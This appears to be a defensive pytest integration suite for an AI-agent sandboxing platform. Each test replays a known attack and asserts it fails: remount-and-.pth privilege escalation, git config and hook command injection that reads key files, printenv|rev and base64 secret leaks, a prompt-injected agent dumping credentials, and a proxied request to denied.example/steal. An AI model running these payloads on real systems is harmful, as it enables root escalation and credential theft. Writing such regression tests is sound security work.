"""A hostile developer against agent runs, end to end: the API, a real Celery worker, real bubblewrap, real git.

Each test performs an attack that worked before (an ordinary developer with a demo-agent grant got root on
the worker, read and wrote other teams' repositories, extracted the team's vendor key) and asserts it failed
and left nothing behind.
"""

from __future__ import annotations

import base64
import socket
import sysconfig
import uuid
from pathlib import Path

import pytest

from catalog.models import AgentGroup, AgentRun, AuditEvent, ToolVersion
from tests.agent_helpers import demo_tool, git, make_repo, register
from tests.conftest import wait_for

pytestmark = [pytest.mark.integration]


@pytest.fixture
def world(transactional_db, people, teams):
    from tests.conftest import require_binary

    require_binary("bwrap", "bubblewrap")
    tool = demo_tool(people, teams)
    ours = make_repo()
    register(ours, people, slug="payments-app", teams=("payments",))
    theirs = make_repo()
    register(theirs, people, slug="search-app", teams=("search",))
    return {"tool": tool, "ours": ours, "theirs": theirs}


def launch(api, user, prompt, *, repository="payments-app", status=201, **extra):
    body = {"prompt": prompt, "repository": repository, "agents": [{"tool": "demo-agent", "count": 1}], **extra}
    response = api(user).post("/api/v1/agent-groups/", body, format="json")
    assert response.status_code == status, response.content
    return response.json()


def finished_run(data) -> AgentRun:
    wait_for(
        lambda: AgentGroup.objects.get(pk=data["id"]).status in ("finished", "canceled"),
        timeout=60,
        message="the run to finish",
    )
    return AgentRun.objects.get(group_id=data["id"])


def text_of(run: AgentRun) -> str:
    return "\n".join(run.log_lines.order_by("seq").values_list("text", flat=True)) + run.diff + run.test_output


def tool_argv(tool, argv: list[str]) -> None:
    """A newer version of the demo tool that runs `argv` (the attacker's agent)."""
    ToolVersion.objects.create(
        tool=tool, version=f"9.{uuid.uuid4().hex[:6]}", launch_command=argv, review_state="approved"
    )


def test_remount_and_plant_a_pth_file_fails(api, people, world, celery_worker):
    """1. As root, the sandbox used to keep every capability: remount the interpreter's prefix writable and plant
    a .pth file that the next host Python start runs as root."""
    pth = Path(sysconfig.get_paths()["purelib"]) / f"gp-{uuid.uuid4().hex}.pth"
    marker = Path(f"/tmp/gp-root-{uuid.uuid4().hex}")
    attack = (
        f"for d in /usr {Path(pth).parent} /; do mount -o remount,bind,rw $d 2>/dev/null; done;"
        f"echo 'import os; os.system(\"id > {marker}\")' > {pth} 2>/dev/null;"
        "unshare -U -r id 2>/dev/null && echo USERNS-OK; grep CapEff /proc/self/status; id -u"
    )
    tool_argv(world["tool"], ["sh", "-c", attack])
    run = finished_run(launch(api, people["alice"], "escape", test_command=["sh", "-c", attack]))
    assert run.status == "succeeded", run.error
    assert not pth.exists() and not marker.exists()
    text = text_of(run)
    lines = text.splitlines()
    assert "USERNS-OK" not in lines and "CapEff:\t0000000000000000" in lines
    assert "1000" in lines  # an unprivileged uid inside
    assert run.sandbox["description"]["profile"]["capabilities"] == []


def test_repository_controlled_git_never_runs_on_the_worker(api, people, world, celery_worker):
    """2. The agent (or the repository) writes .git/config knobs that make git run commands; the worker ran git
    in the copy afterwards (add -A, diff), on the host, and the commands' output came back in the diff."""
    marker = Path(f"/tmp/gp-git-{uuid.uuid4().hex}")
    key = Path(world["ours"]).parent.parent / "keys"  # GOLDPATH_HOME/keys: the provenance key, the Fernet key
    payload = f"touch {marker}; cat {key}/* 2>/dev/null; echo ran-on-$(cat /etc/hostname)"
    attack = (
        f"git config core.fsmonitor '{payload}';"
        f"git config filter.x.clean '{payload}'; echo '* filter=x' > .gitattributes;"
        f"git config diff.external '{payload}'; git config core.hooksPath /workspace/hooks;"
        f"mkdir -p hooks; printf '#!/bin/sh\\n{payload}\\n' > hooks/pre-commit; chmod +x hooks/pre-commit;"
        "echo changed >> README.md"
    )
    tool_argv(world["tool"], ["sh", "-c", attack])
    data = launch(api, people["alice"], "poison git")
    run = finished_run(data)
    assert run.status == "succeeded", run.error
    assert not marker.exists()
    # git honoured the knobs only inside the sandbox: no host file, no host name, no key in the diff
    assert "PRIVATE KEY" not in run.diff and "ran-on-" + socket.gethostname() not in run.diff
    for key_file in key.glob("*"):
        assert key_file.read_text().strip()[:40] not in run.diff
    assert "+ran-on-sandbox" in run.diff  # the clean filter did run: inside the sandbox, where it can harm nothing
    # accepting it: the worker commits in a fresh clone of the registered repository; nothing runs there either
    response = api(people["alice"]).post(f"/api/v1/agent-groups/{data['id']}/accept/", {"run": run.pk}, format="json")
    assert response.status_code == 202
    wait_for(lambda: AgentGroup.objects.get(pk=data["id"]).accept_status in ("done", "failed"), timeout=30)
    assert not marker.exists()


def test_a_repository_cannot_replace_the_demo_agent(api, people, world, celery_worker):
    """2b. `python3 -m catalog.demo_agent` with the working directory first on sys.path ran the repository's own
    catalog/demo_agent/__main__.py."""
    repo = world["ours"]
    fake = repo / "catalog" / "demo_agent"
    fake.mkdir(parents=True)
    (repo / "catalog" / "__init__.py").write_text("")
    (fake / "__init__.py").write_text("")
    (fake / "__main__.py").write_text("print('REPOSITORY CODE RAN')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a trojan demo agent")
    run = finished_run(launch(api, people["alice"], "hello"))
    assert run.status == "succeeded", run.error
    assert "REPOSITORY CODE RAN" not in text_of(run) and "[demo-agent] done" in text_of(run)


@pytest.mark.parametrize(
    "repository",
    ["search-app", "/etc", "file:///etc", "http://127.0.0.1:6379/x", "ssh://git@127.0.0.1:5432/x", "../x"],
)
def test_only_registered_repositories_of_the_team(api, people, world, repository):
    """3. Any absolute path or file:// URL was accepted: another team's repository, the portal's own source.
    5. Remote URLs were cloned outside the sandbox, and git's error text port-scanned the worker's loopback."""
    before = (AgentGroup.objects.count(), AuditEvent.objects.filter(verb="agent_group.created").count())
    data = launch(api, people["alice"], "read theirs", repository=repository, status=400)
    assert data["repository"] == [f"No repository {repository} is registered for your teams."]
    assert set(data["errors"]) == {"repository"}  # one clear reason, nothing else
    assert (AgentGroup.objects.count(), AuditEvent.objects.filter(verb="agent_group.created").count()) == before
    refusal = AuditEvent.objects.filter(verb="repository.use_denied").latest("id")  # an audited refusal
    assert refusal.actor_repr == "alice" and refusal.payload == {"repository": repository, "for": "agent_group"}


def test_a_lower_classification_than_the_repository_is_refused(api, people, world):
    from catalog.models import Repository

    Repository.objects.filter(slug="payments-app").update(data_classification="confidential")
    data = launch(api, people["alice"], "x", classification="internal", status=400)
    assert "confidential" in data["classification"][0]
    group = launch(api, people["alice"], "x")
    assert group["classification"] == "confidential" and group["repository"] == "payments-app"


def test_vendor_key_never_reaches_the_test_command(api, people, teams, world, celery_worker):
    """4. The test_command sandbox got the team's vendor key; masking replaced only the exact string, so
    `printenv KEY | rev` or `| base64` printed it."""
    from catalog.services.vendor_keys import vendor_api_key_set

    secret = "sk-live-" + uuid.uuid4().hex
    vendor_api_key_set(
        team=teams["payments"], tool=world["tool"], actor=people["bob"], env_var="DEMO_API_KEY", value=secret
    )
    attack = "printenv DEMO_API_KEY | rev; printenv DEMO_API_KEY | base64; printenv | cut -c1-40; echo END"
    run = finished_run(launch(api, people["alice"], "steal", test_command=["sh", "-c", attack]))
    assert run.status == "succeeded", run.error
    assert "END" in run.test_output
    for form in (secret, secret[::-1], base64.b64encode(secret.encode()).decode()[:20], secret[:20]):
        assert form not in text_of(run)
    assert "GOLDPATH_AGENT_TOKEN" not in run.test_output


def test_accept_never_runs_the_targets_hooks(api, people, world, celery_worker):
    """6. Accepting pushed synchronously into a local target, whose own hooks ran inside the web server."""
    repo = world["ours"]
    marker = Path(f"/tmp/gp-accept-{uuid.uuid4().hex}")
    for hook in ("pre-receive", "update", "post-receive", "reference-transaction", "post-update"):
        path = repo / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\necho {hook} >> {marker}\n")
        path.chmod(0o755)
    data = launch(api, people["alice"], "Add a greeting")
    run = finished_run(data)
    assert run.status == "succeeded", run.error
    response = api(people["alice"]).post(f"/api/v1/agent-groups/{data['id']}/accept/", {"run": run.pk}, format="json")
    assert response.status_code == 202 and response.json()["accept_status"] == "pending"
    wait_for(lambda: AgentGroup.objects.get(pk=data["id"]).accepted_commit, timeout=30, message="the commit")
    group = AgentGroup.objects.get(pk=data["id"])
    assert git(repo, "rev-parse", f"refs/heads/{group.accepted_branch}") == group.accepted_commit
    assert group.accepted_branch == f"goldpath/{group.pk}/{run.pk}"
    assert not marker.exists(), marker.read_text()
    # nothing reached the other team's repository
    assert git(world["theirs"], "branch", "--list", "goldpath/*") == ""


def test_the_vendor_key_never_reaches_the_agent_and_its_own_credential_is_masked(
    api, people, teams, world, celery_worker
):
    """A prompt-injected agent writes down every credential it can find: the team's vendor key is not among them
    (the model gateway adds it upstream); the run's own gateway credential it does see is masked in the diff and
    in the tests' output, and no longer works once the run has ended."""
    from catalog.services.vendor_keys import vendor_api_key_set

    secret = "sk-live-" + uuid.uuid4().hex
    vendor_api_key_set(
        team=teams["payments"], tool=world["tool"], actor=people["bob"], env_var="DEMO_API_KEY", value=secret
    )
    tool_argv(world["tool"], ["sh", "-c", 'env > env.txt; echo "$OPENAI_API_KEY" > key.txt'])
    run = finished_run(launch(api, people["alice"], "write the keys down", test_command=["cat", "key.txt"]))
    assert run.status == "succeeded", run.error
    assert secret not in text_of(run) and secret not in run.diff and "DEMO_API_KEY" not in run.diff
    assert "+OPENAI_API_KEY=********" in run.diff and "+********" in run.diff and "********" in run.test_output
    assert "gpg_" not in run.diff and "gpg_" not in run.test_output  # never in clear
    tokens = run.identity_tokens.filter(purpose="gateway")
    assert tokens.count() == 1 and not tokens.filter(revoked_at__isnull=True).exists()


@pytest.mark.parametrize("line", ["²", "9" * 5000, "-1", "0", "1.5"])
def test_a_provenance_line_that_is_not_a_small_number_is_a_400(api, people, world, line):
    """Unicode digits (`"²".isdigit()` is true, `int("²")` fails) and 5000-digit numbers were 500s."""
    response = api(people["alice"]).get(
        "/api/v1/provenance/", {"repository": "payments-app", "path": "README.md", "line": line}
    )
    assert response.status_code == 400 and "line" in response.json()
    from django.test import Client

    browser = Client()
    browser.force_login(people["alice"])
    page = browser.get("/provenance/", {"repository": "payments-app", "path": "README.md", "line": line})
    assert page.status_code == 200 and b"Give a line number" in page.content


AGENT_HTTP = r"""
import http.client, json, sys
conn = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
body = json.dumps({"hello": "world"})
conn.request("POST", sys.argv[1], body=body, headers={"Content-Type": "application/json"})
first = conn.getresponse()
print("first", first.status, first.read().decode())
conn.request("GET", "http://denied.example/steal")  # the same kept-alive connection
second = conn.getresponse()
print("second", second.status)
"""


def test_egress_checks_every_request_and_forwards_bodies(api, people, world, celery_worker):
    """7. The proxy stranded a body sent in the same write as the headers (real CLIs hung to their time limit),
    and after the first request on a kept-alive connection it piped raw bytes: a second request to a denied
    host was neither checked nor logged. egress_hosts could be set only in Django admin."""
    import http.server
    import threading

    class Echo(http.server.BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802 - the stdlib's name
            data = self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        version = f"9.{uuid.uuid4().hex[:6]}"
        ToolVersion.objects.create(
            tool=world["tool"],
            version=version,
            launch_command=["python3", "-c", AGENT_HTTP, f"http://127.0.0.1:{port}/echo"],
        )
        response = api(people["bob"]).patch(
            f"/api/v1/tools/demo-agent/versions/{version}/", {"egress_hosts": [f"127.0.0.1:{port}"]}, format="json"
        )
        assert response.status_code == 200, response.content
        # what it may reach changed: it runs again once another platform engineer approves it
        assert response.json()["review_state"] == "proposed"
        approved = api(people["frank"]).post(f"/api/v1/tools/demo-agent/versions/{version}/approve/", {}, format="json")
        assert approved.status_code == 200 and approved.json()["review_state"] == "approved", approved.content
        run = finished_run(launch(api, people["alice"], "call out", network_policy="allow_listed"))
    finally:
        server.shutdown()
    assert run.status == "succeeded", (run.error, text_of(run))
    lines = text_of(run).splitlines()
    assert 'first 200 {"hello": "world"}' in lines and "second 403" in lines
    attempts = [(e["host"], e["port"], e["allowed"]) for e in run.sandbox["egress"]]
    assert attempts == [("127.0.0.1", port, True), ("denied.example", 80, False)]
    finish = AuditEvent.objects.filter(verb="agent_run.finished", target_id=str(run.pk)).get()
    assert finish.payload["egress_denied"] == ["denied.example:80"]
